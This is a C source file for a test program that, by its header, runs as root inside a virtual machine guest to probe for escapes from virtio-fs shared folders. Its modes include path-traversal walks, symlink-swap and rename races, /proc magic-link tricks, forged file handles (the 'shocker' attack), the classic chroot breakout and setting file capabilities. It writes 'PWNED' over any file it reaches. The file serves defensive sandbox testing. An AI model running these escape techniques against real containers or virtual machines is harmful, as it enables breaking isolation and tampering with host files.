/* escape: hostile code for tests/box/escape-tests.sh. A static multi-call
 * program that runs as root in the guest (and, for `swapper`, on the host)
 * and tries to read or write files beside the virtio-fs shares.
 *
 *   escape walk DIR NAME...           ".." chains from DIR: openat, chdir, fd walks
 *   escape swap DIR SECS TARGET NAME...  a thread swaps a dir with a symlink to
 *                                     TARGET (RENAME_EXCHANGE) while others open
 *                                     paths through it
 *   escape swapper DIR SECS TARGET    only the swapping (run on the host)
 *   escape reader DIR SECS NAME...    only the opening (the guest half of swapper)
 *   escape renamerace DIR SECS NAME...  moves directories around while threads
 *                                     walk up from a held fd deep inside
 *   escape procfd DIR NAME...         /proc/self/fd, /proc/self/root, /proc/N/cwd
 *   escape link DST SRC...            hard links to SRC by every linkat form
 *   escape devs OFF NODE...           opens device nodes: KVM ioctl, pread at OFF
 *   escape handles DIR NAME...        forged open_by_handle_at (the "shocker")
 *   escape chroot NAME...             the classic chroot breakout
 *   escape fcap FILE...               file capabilities (revisions 2 and 3) on FILEs
 *
 * It never knows the secrets: it prints whatever it manages to read ("READ
 * label: text") and every write that succeeds ("WROTE label"), and the host
 * looks for its secret tokens in the output and for changes beside the
 * shares. Each mode ends with one "MODE: summary" line. Exit status 0 when
 * the mode ran, 2 on a usage or set-up error. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#define KVM_GET_API_VERSION 0xae00 /* _IO(KVMIO, 0x00) */
#define MAX_SEEN 32

static atomic_long n_reads, n_writes, n_tries, n_wrote_printed;
static atomic_bool stop;
static pthread_mutex_t seen_lock = PTHREAD_MUTEX_INITIALIZER;
static char *seen[MAX_SEEN];
static int nseen;

static void die(const char *what)
{
	fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
	exit(2);
}

/* Print what was read, once per distinct content (the races read the same
 * inside file thousands of times). Non-printable bytes become '.'. */
static void report(const char *label, const char *buf, ssize_t n)
{
	char text[200];
	ssize_t k = n < (ssize_t)sizeof(text) - 1 ? n : (ssize_t)sizeof(text) - 1;
	for (ssize_t i = 0; i < k; i++)
		text[i] = buf[i] >= 32 && buf[i] < 127 ? buf[i] : '.';
	text[k] = 0;
	pthread_mutex_lock(&seen_lock);
	bool dup = false;
	for (int i = 0; i < nseen && !dup; i++)
		dup = strcmp(seen[i], text) == 0;
	if (!dup && nseen < MAX_SEEN) {
		seen[nseen++] = strdup(text);
		printf("READ %s: %s\n", label, text);
		fflush(stdout);
	}
	pthread_mutex_unlock(&seen_lock);
}

/* Open dirfd/path and read it. Returns true if anything was read. */
static bool try_read(const char *label, int dirfd, const char *path)
{
	atomic_fetch_add(&n_tries, 1);
	int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd < 0)
		return false;
	char buf[256];
	ssize_t n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n <= 0)
		return false;
	atomic_fetch_add(&n_reads, 1);
	char l[512];
	snprintf(l, sizeof(l), "%s %s", label, path);
	report(l, buf, n);
	return true;
}

/* Write "PWNED" over dirfd/path, creating it if need be: outside the
 * shares that is a change the host will see. The first 20 are printed. */
static bool try_write(const char *label, int dirfd, const char *path, bool quiet)
{
	atomic_fetch_add(&n_tries, 1);
	int fd = openat(dirfd, path, O_WRONLY | O_TRUNC | O_CREAT | O_NONBLOCK | O_NOCTTY | O_CLOEXEC,
			0644);
	if (fd < 0)
		return false;
	bool ok = write(fd, "PWNED\n", 6) == 6;
	close(fd);
	if (ok) {
		atomic_fetch_add(&n_writes, 1);
		if (!quiet && atomic_fetch_add(&n_wrote_printed, 1) < 20) {
			printf("WROTE %s %s\n", label, path);
			fflush(stdout);
		}
	}
	return ok;
}

static void list_dir(const char *label, int dirfd)
{
	int fd = openat(dirfd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *d = fd < 0 ? NULL : fdopendir(fd);
	if (!d) {
		printf("LIST %s: %s\n", label, strerror(errno));
		return;
	}
	printf("LIST %s:", label);
	struct dirent *e;
	for (int i = 0; (e = readdir(d)) && i < 40; i++)
		printf(" %s", e->d_name);
	printf("\n");
	closedir(d);
}

/* "../../NAME" with `up` times "../". */
static void updots(char *buf, size_t sz, int up, const char *name)
{
	buf[0] = 0;
	for (int i = 0; i < up; i++)
		strncat(buf, "../", sz - strlen(buf) - 1);
	strncat(buf, name, sz - strlen(buf) - 1);
}

static void try_names(const char *label, int dirfd, int maxup, char **names, int nnames,
		      bool write)
{
	char p[4096];
	for (int up = 0; up <= maxup; up++)
		for (int i = 0; i < nnames; i++) {
			updots(p, sizeof(p), up, names[i]);
			try_read(label, dirfd, p);
			if (write && up > 0)
				try_write(label, dirfd, p, false);
		}
}

static void summary(const char *mode)
{
	printf("%s: %ld opens tried, %ld reads, %ld writes succeeded\n", mode, (long)n_tries,
	       (long)n_reads, (long)n_writes);
}

static int mode_walk(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	const char *dir = argv[0];
	char **names = argv + 1;
	int nn = argc - 1;
	int fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0) {
		/* A symlink the guest resolves to nothing: nothing to walk. */
		printf("walk: %s: %s\n", dir, strerror(errno));
		return 0;
	}
	/* 1. one path with many "../" */
	try_names("dotdot-path", fd, 12, names, nn, true);
	/* 2. an fd walked up one ".." at a time */
	int up = dup(fd);
	for (int i = 0; i < 20; i++) {
		int n = openat(up, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (n < 0)
			break;
		close(up);
		up = n;
		try_names("fd-walk", up, 0, names, nn, true);
	}
	list_dir("fd-walk top", up);
	close(up);
	/* 3. chdir("..") over and over, then relative names */
	if (fchdir(fd) < 0)
		die("fchdir");
	for (int i = 0; i < 30; i++)
		if (chdir("..") < 0)
			break;
	char cwd[4096];
	printf("chdir-walk: cwd %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : strerror(errno));
	try_names("chdir-walk", AT_FDCWD, 3, names, nn, true);
	list_dir("chdir-walk top", AT_FDCWD);
	/* 4. O_PATH fds and "" lookups */
	int p = open(dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
	for (int i = 0; p >= 0 && i < 20; i++) {
		int n = openat(p, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
		close(p);
		p = n;
	}
	if (p >= 0) {
		try_names("opath-walk", p, 0, names, nn, true);
		close(p);
	}
	close(fd);
	summary("walk");
	return 0;
}

struct race {
	const char *dir;
	int dirfd;
	const char *target;
	char **names;
	int nnames;
	atomic_long swaps, fails;
	atomic_long saw_dir, saw_link; /* what "d" was when a reader looked */
};

static void sleep_ms(long ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000 };
	nanosleep(&ts, NULL);
}

static void *swapper_thread(void *arg)
{
	struct race *r = arg;
	while (!atomic_load(&stop)) {
		if (syscall(SYS_renameat2, r->dirfd, "d", r->dirfd, "l", RENAME_EXCHANGE) == 0)
			atomic_fetch_add(&r->swaps, 1);
		else
			atomic_fetch_add(&r->fails, 1);
	}
	return NULL;
}

static void *reader_thread(void *arg)
{
	struct race *r = arg;
	char p[4096];
	while (!atomic_load(&stop)) {
		struct stat st;
		if (fstatat(r->dirfd, "d", &st, AT_SYMLINK_NOFOLLOW) == 0)
			atomic_fetch_add(S_ISLNK(st.st_mode) ? &r->saw_link : &r->saw_dir, 1);
		for (int up = 0; up <= 6; up++)
			for (int i = 0; i < r->nnames; i++) {
				char rel[4000];
				updots(rel, sizeof(rel), up, r->names[i]);
				snprintf(p, sizeof(p), "d/%s", rel);
				try_read("swap", r->dirfd, p);
				try_write("swap", r->dirfd, p, true);
			}
		/* A directory fd taken mid-swap, then walked from. */
		int d = openat(r->dirfd, "d", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (d >= 0) {
			try_names("swap-dirfd", d, 6, r->names, r->nnames, false);
			close(d);
		}
	}
	return NULL;
}

/* Fresh lookups: without this the guest's dentry cache (1 s) hides most
 * swaps from the server. */
static void *dropper_thread(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		int fd = open("/proc/sys/vm/drop_caches", O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			return NULL;
		if (write(fd, "2", 1) < 0) {
			close(fd);
			return NULL;
		}
		close(fd);
		sleep_ms(20);
	}
	return NULL;
}

/* DIR/d: a directory holding decoys with the secrets' names; DIR/l: a
 * symlink to target. */
static void race_setup(struct race *r, bool make)
{
	r->dirfd = open(r->dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (r->dirfd < 0)
		die(r->dir);
	if (!make)
		return;
	/* A previous run may have left d and l swapped. */
	struct stat st;
	if (fstatat(r->dirfd, "l", &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISDIR(st.st_mode) &&
	    syscall(SYS_renameat2, r->dirfd, "d", r->dirfd, "l", RENAME_EXCHANGE) < 0)
		die("swap d and l back");
	if (mkdirat(r->dirfd, "d", 0755) < 0 && errno != EEXIST)
		die("mkdir d");
	if (unlinkat(r->dirfd, "l", 0) < 0 && errno != ENOENT)
		die("unlink l");
	if (symlinkat(r->target, r->dirfd, "l") < 0)
		die("symlink l");
	int fd = openat(r->dirfd, "d/decoy", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd >= 0) {
		if (write(fd, "inside\n", 7) < 0)
			die("write decoy");
		close(fd);
	}
}

static void on_term(int sig)
{
	(void)sig;
	atomic_store(&stop, true);
}

static void run_threads(struct race *r, long secs, bool swap, int readers, bool dropper)
{
	pthread_t t[8];
	int n = 0;
	atomic_store(&stop, false);
	if (swap)
		pthread_create(&t[n++], NULL, swapper_thread, r);
	for (int i = 0; i < readers && n < 7; i++)
		pthread_create(&t[n++], NULL, reader_thread, r);
	if (dropper)
		pthread_create(&t[n++], NULL, dropper_thread, r);
	/* SIGTERM cuts the wait short (nanosleep returns EINTR). */
	for (long ms = 0; ms < secs * 1000 && !atomic_load(&stop); ms += 50)
		sleep_ms(50);
	atomic_store(&stop, true);
	for (int i = 0; i < n; i++)
		pthread_join(t[i], NULL);
}

static int mode_swap(int argc, char **argv, bool swap, bool read)
{
	struct race r = { 0 };
	if (argc < 3)
		return 2;
	r.dir = argv[0];
	long secs = atol(argv[1]);
	if (swap)
		r.target = argv[2];
	r.names = argv + (swap ? 3 : 2);
	r.nnames = argc - (swap ? 3 : 2);
	struct sigaction sa = { .sa_handler = on_term };
	sigaction(SIGTERM, &sa, NULL);
	race_setup(&r, swap);
	if (swap && !read)
		printf("swapper ready\n");
	fflush(stdout);
	run_threads(&r, secs, swap, read ? 2 : 0, read);
	const char *mode = swap ? (read ? "swap" : "swapper") : "reader";
	if (swap)
		printf("%s: target %s: %ld swaps (%ld failed)\n", mode, r.target, (long)r.swaps,
		       (long)r.fails);
	if (read)
		printf("%s: saw d as a directory %ld times, as a symlink %ld times\n", mode,
		       (long)r.saw_dir, (long)r.saw_link);
	summary(mode);
	return 0;
}

/* Directories moved while walkers hold fds deep inside them. */
struct rr {
	const char *dir;
	int dirfd, deep;
	char **names;
	int nnames;
	atomic_long moves, exdev;
};

static void *mover_thread(void *arg)
{
	struct rr *r = arg;
	while (!atomic_load(&stop)) {
		if (renameat(r->dirfd, "rr/a/b", r->dirfd, "rr/z/b") == 0) {
			atomic_fetch_add(&r->moves, 1);
			renameat(r->dirfd, "rr/z/b", r->dirfd, "rr/a/b");
		}
		if (syscall(SYS_renameat2, r->dirfd, "rr/a", r->dirfd, "rr/z", RENAME_EXCHANGE) == 0)
			atomic_fetch_add(&r->moves, 1);
		/* Out of the mount altogether: EXDEV from a volume. */
		if (renameat(r->dirfd, "rr/a/b/c", AT_FDCWD, "/rr-moved-out") < 0 && errno == EXDEV)
			atomic_fetch_add(&r->exdev, 1);
		else
			renameat(AT_FDCWD, "/rr-moved-out", r->dirfd, "rr/a/b/c");
	}
	return NULL;
}

static void *walker_thread(void *arg)
{
	struct rr *r = arg;
	while (!atomic_load(&stop)) {
		try_names("rename-deepfd", r->deep, 10, r->names, r->nnames, false);
		int up = dup(r->deep);
		for (int i = 0; up >= 0 && i < 12; i++) {
			int n = openat(up, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			close(up);
			up = n;
			if (up >= 0)
				try_names("rename-fdwalk", up, 0, r->names, r->nnames, false);
		}
		if (up >= 0)
			close(up);
		char p[512];
		for (int i = 0; i < r->nnames; i++) {
			snprintf(p, sizeof(p), "rr/a/b/c/d/e/../../../../../../../../%s", r->names[i]);
			try_read("rename-path", r->dirfd, p);
			try_write("rename-path", r->dirfd, p, true);
		}
	}
	return NULL;
}

static int mode_renamerace(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	struct rr r = { .dir = argv[0], .names = argv + 2, .nnames = argc - 2 };
	long secs = atol(argv[1]);
	r.dirfd = open(r.dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (r.dirfd < 0)
		die(r.dir);
	const char *mk[] = { "rr", "rr/z", "rr/a", "rr/a/b", "rr/a/b/c", "rr/a/b/c/d", "rr/a/b/c/d/e" };
	for (size_t i = 0; i < sizeof(mk) / sizeof(mk[0]); i++)
		if (mkdirat(r.dirfd, mk[i], 0755) < 0 && errno != EEXIST)
			die(mk[i]);
	r.deep = openat(r.dirfd, "rr/a/b/c/d/e", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (r.deep < 0)
		die("open rr/a/b/c/d/e");
	if (fchdir(r.deep) < 0)
		die("fchdir");
	pthread_t t[4];
	atomic_store(&stop, false);
	pthread_create(&t[0], NULL, mover_thread, &r);
	pthread_create(&t[1], NULL, walker_thread, &r);
	pthread_create(&t[2], NULL, walker_thread, &r);
	pthread_create(&t[3], NULL, dropper_thread, NULL);
	/* The main thread walks its cwd up while the tree moves under it. */
	struct timespec t0, now;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	long walks = 0;
	do {
		if (fchdir(r.deep) < 0)
			break;
		for (int i = 0; i < 12; i++)
			if (chdir("..") < 0)
				break;
		try_names("rename-cwd", AT_FDCWD, 2, r.names, r.nnames, false);
		walks++;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - t0.tv_sec < secs);
	atomic_store(&stop, true);
	for (int i = 0; i < 4; i++)
		pthread_join(t[i], NULL);
	printf("renamerace: %ld moves, %ld EXDEV, %ld cwd walks\n", (long)r.moves, (long)r.exdev,
	       walks);
	summary("renamerace");
	return 0;
}

static int mode_procfd(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	const char *dir = argv[0];
	char **names = argv + 1;
	int nn = argc - 1;
	int fd = open(dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		die(dir);
	char p[4096];
	const char *bases[] = { "/proc/self/fd/%d/", "/proc/self/root/", "/proc/1/root/",
				"/proc/self/cwd/", "/proc/thread-self/root/", "/dev/fd/%d/" };
	if (chdir(dir) < 0)
		die("chdir");
	for (size_t b = 0; b < sizeof(bases) / sizeof(bases[0]); b++) {
		char base[64];
		snprintf(base, sizeof(base), bases[b], fd);
		for (int up = 0; up <= 8; up++)
			for (int i = 0; i < nn; i++) {
				char rel[4000];
				updots(rel, sizeof(rel), up, names[i]);
				snprintf(p, sizeof(p), "%s%s", base, rel);
				try_read("proc", AT_FDCWD, p);
				try_write("proc", AT_FDCWD, p, false);
			}
	}
	/* Every symlink in dir (the host planted some pointing out), through
	 * the magic link of an O_PATH|O_NOFOLLOW fd on it. */
	int dfd = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *d = dfd < 0 ? NULL : fdopendir(dfd);
	struct dirent *e;
	while (d && (e = readdir(d))) {
		int l = openat(fd, e->d_name, O_PATH | O_NOFOLLOW | O_CLOEXEC);
		if (l < 0)
			continue;
		struct stat st;
		if (fstat(l, &st) == 0 && S_ISLNK(st.st_mode)) {
			snprintf(p, sizeof(p), "/proc/self/fd/%d", l);
			try_read("proc-symlink", AT_FDCWD, p);
			try_write("proc-symlink", AT_FDCWD, p, false);
			for (int up = 0; up <= 4; up++)
				for (int i = 0; i < nn; i++) {
					char rel[4000];
					updots(rel, sizeof(rel), up, names[i]);
					snprintf(p, sizeof(p), "/proc/self/fd/%d/%s", l, rel);
					try_read("proc-symlink", AT_FDCWD, p);
				}
		}
		close(l);
	}
	if (d)
		closedir(d);
	char root[4096];
	ssize_t n = readlink("/proc/self/root", root, sizeof(root) - 1);
	printf("procfd: /proc/self/root -> %.*s\n", n > 0 ? (int)n : 1, n > 0 ? root : "?");
	summary("procfd");
	return 0;
}

static int mode_link(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	const char *dst = argv[0];
	int made = 0;
	char to[4096];
	for (int i = 1; i < argc; i++) {
		const char *src = argv[i];
		struct {
			const char *how;
			int rc;
		} tries[4];
		int k = 0;
		snprintf(to, sizeof(to), "%s/hl%d-follow", dst, i);
		tries[k].how = "follow";
		tries[k++].rc = linkat(AT_FDCWD, src, AT_FDCWD, to, AT_SYMLINK_FOLLOW);
		snprintf(to, sizeof(to), "%s/hl%d-nofollow", dst, i);
		tries[k].how = "nofollow";
		tries[k++].rc = linkat(AT_FDCWD, src, AT_FDCWD, to, 0);
		int o = open(src, O_PATH | O_CLOEXEC);
		snprintf(to, sizeof(to), "%s/hl%d-emptypath", dst, i);
		tries[k].how = "emptypath";
		tries[k++].rc = o < 0 ? -1 : linkat(o, "", AT_FDCWD, to, AT_EMPTY_PATH);
		char mag[64];
		snprintf(mag, sizeof(mag), "/proc/self/fd/%d", o);
		snprintf(to, sizeof(to), "%s/hl%d-procfd", dst, i);
		tries[k].how = "procfd";
		tries[k++].rc = o < 0 ? -1 : linkat(AT_FDCWD, mag, AT_FDCWD, to, AT_SYMLINK_FOLLOW);
		if (o >= 0)
			close(o);
		for (int j = 0; j < k; j++) {
			printf("link %s (%s): %s\n", src, tries[j].how,
			       tries[j].rc == 0 ? "linked" : "refused");
			if (tries[j].rc == 0) {
				made++;
				snprintf(to, sizeof(to), "%s/hl%d-%s", dst, i, tries[j].how);
				try_read("link", AT_FDCWD, to);
				try_write("link", AT_FDCWD, to, false);
			}
		}
	}
	printf("link: %d links made\n", made);
	summary("link");
	return 0;
}

static int mode_devs(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	off_t off = strtoll(argv[0], NULL, 0);
	for (int i = 1; i < argc; i++) {
		const char *node = argv[i];
		int fd = open(node, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
		if (fd < 0) {
			printf("dev %s: open: %s\n", node, strerror(errno));
			continue;
		}
		int api = ioctl(fd, KVM_GET_API_VERSION, 0);
		if (api >= 0)
			printf("dev %s: KVM-API=%d\n", node, api);
		unsigned char buf[4096];
		ssize_t n = pread(fd, buf, 64, off);
		if (n > 0) {
			printf("dev %s: HEX=", node);
			for (ssize_t k = 0; k < n; k++)
				printf("%02x", buf[k]);
			printf("\n");
		} else {
			printf("dev %s: pread: %s\n", node, n < 0 ? strerror(errno) : "EOF");
		}
		n = pread(fd, buf, sizeof(buf), 0);
		if (n > 0)
			report(node, (char *)buf, n);
		close(fd);
	}
	printf("devs: done\n");
	return 0;
}

/* security.capability as a guest kernel would write it for root (revision
 * 2) and for a user namespace rooted at host uid 0 (revision 3): CAP_SYS_ADMIN
 * permitted and effective. */
static int mode_fcap(int argc, char **argv)
{
	if (argc < 1)
		return 2;
	for (int i = 0; i < argc; i++) {
		uint32_t v[6] = { 0x02000001u, 1u << 21, 0, 0, 0, 0 };
		int r2 = setxattr(argv[i], "security.capability", v, 20, 0);
		printf("fcap %s: v2 %s\n", argv[i], r2 == 0 ? "SET" : strerror(errno));
		v[0] = 0x03000001u;
		int r3 = setxattr(argv[i], "security.capability", v, 24, 0);
		printf("fcap %s: v3 %s\n", argv[i], r3 == 0 ? "SET" : strerror(errno));
	}
	printf("fcap: done\n");
	return 0;
}

/* fuse_encode_fh(): nodeid high, nodeid low, generation (and the parent's
 * three words for a connectable handle). */
static int mode_handles(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	const char *dir = argv[0];
	char **names = argv + 1;
	int nn = argc - 1;
	struct {
		struct file_handle h;
		unsigned char b[128];
	} fh;
	fh.h.handle_bytes = sizeof(fh.b);
	int mnt;
	if (name_to_handle_at(AT_FDCWD, dir, &fh.h, &mnt, 0) < 0) {
		printf("handles: name_to_handle_at %s: %s\n", dir, strerror(errno));
	} else {
		printf("handles: %s is type %d, %u bytes\n", dir, fh.h.handle_type,
		       fh.h.handle_bytes);
	}
	int type = fh.h.handle_type > 0 ? fh.h.handle_type : 0x81;
	int mfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0)
		die(dir);
	long opened = 0, tried = 0;
	for (uint32_t node = 1; node <= 400; node++)
		for (uint32_t gen = 0; gen <= 3; gen++) {
			uint32_t w[3] = { 0, node, gen };
			fh.h.handle_type = type;
			fh.h.handle_bytes = sizeof(w);
			memcpy(fh.h.f_handle, w, sizeof(w));
			tried++;
			int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
			if (fd < 0)
				continue;
			opened++;
			struct stat st;
			if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
				try_names("handle-dir", fd, 8, names, nn, true);
			} else {
				char buf[256];
				ssize_t n = read(fd, buf, sizeof(buf));
				if (n > 0) {
					char l[64];
					snprintf(l, sizeof(l), "handle %u:%u", node, gen);
					report(l, buf, n);
				}
			}
			close(fd);
		}
	printf("handles: %ld forged, %ld opened (inodes the guest already holds)\n", tried, opened);
	summary("handles");
	return 0;
}

static int mode_chroot(int argc, char **argv)
{
	mkdir("/tmp/jail", 0755);
	int keep = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (chroot("/tmp/jail") < 0)
		die("chroot");
	/* cwd (and keep) are outside the new root: walk up from there. */
	if (fchdir(keep) < 0)
		die("fchdir");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		die("chroot .");
	char cwd[4096];
	printf("chroot: cwd %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : strerror(errno));
	list_dir("chroot top", AT_FDCWD);
	try_names("chroot", AT_FDCWD, 6, argv, argc, true);
	int r = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (r >= 0) {
		try_names("chroot-root", r, 6, argv, argc, true);
		close(r);
	}
	summary("chroot");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		fprintf(stderr, "usage: escape MODE ARGS...\n");
		return 2;
	}
	const char *m = argv[1];
	int ac = argc - 2;
	char **av = argv + 2;
	int rc = 2;
	if (!strcmp(m, "walk"))
		rc = mode_walk(ac, av);
	else if (!strcmp(m, "swap"))
		rc = mode_swap(ac, av, true, true);
	else if (!strcmp(m, "swapper"))
		rc = mode_swap(ac, av, true, false);
	else if (!strcmp(m, "reader"))
		rc = mode_swap(ac, av, false, true);
	else if (!strcmp(m, "renamerace"))
		rc = mode_renamerace(ac, av);
	else if (!strcmp(m, "procfd"))
		rc = mode_procfd(ac, av);
	else if (!strcmp(m, "link"))
		rc = mode_link(ac, av);
	else if (!strcmp(m, "devs"))
		rc = mode_devs(ac, av);
	else if (!strcmp(m, "handles"))
		rc = mode_handles(ac, av);
	else if (!strcmp(m, "chroot"))
		rc = mode_chroot(ac, av);
	else if (!strcmp(m, "fcap"))
		rc = mode_fcap(ac, av);
	if (rc == 2)
		fprintf(stderr, "escape: bad mode or arguments: %s\n", m);
	return rc;
}
